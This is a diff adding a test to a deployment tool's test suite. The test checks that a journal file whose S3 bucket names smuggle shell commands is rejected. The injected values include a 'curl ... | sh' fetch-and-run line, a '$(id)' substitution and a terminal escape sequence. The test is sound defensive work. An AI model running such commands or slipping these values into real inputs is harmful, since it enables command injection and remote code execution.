@@ -242,6 +242,19 @@ describe('a journal that somebody else has written', () => {
     expect(changing(there)).toEqual([])
   })
 
+  test.each([
+    'terrace-prod-x; curl -s https://example.com | sh #',
+    'terrace-prod-\u001b[2J',
+    'terrace-prod-$(id)',
+  ])('names what would be a command in the lines that a person is told to run: %j', async (name) => {
+    const kept = [{ id: 'Documents', type: 'AWS::S3::Bucket', name }]
+    const rest = { databases: [], deletesData: false, groups: [], isProtected: false, earlier: [] }
+    await write(JSON.stringify({ stackId: 'arn:x', kept, ...rest }))
+    forget(there)
+    await expect(run(there)).rejects.toThrow('is not the journal')
+    expect(changing(there)).toEqual([])
+  })
+
   test('names another’s data as an earlier stack’s', async () => {
     const kept = [{ id: 'Documents', type: 'AWS::S3::Bucket', name: 'terrace-staging-documents' }]
     await write(
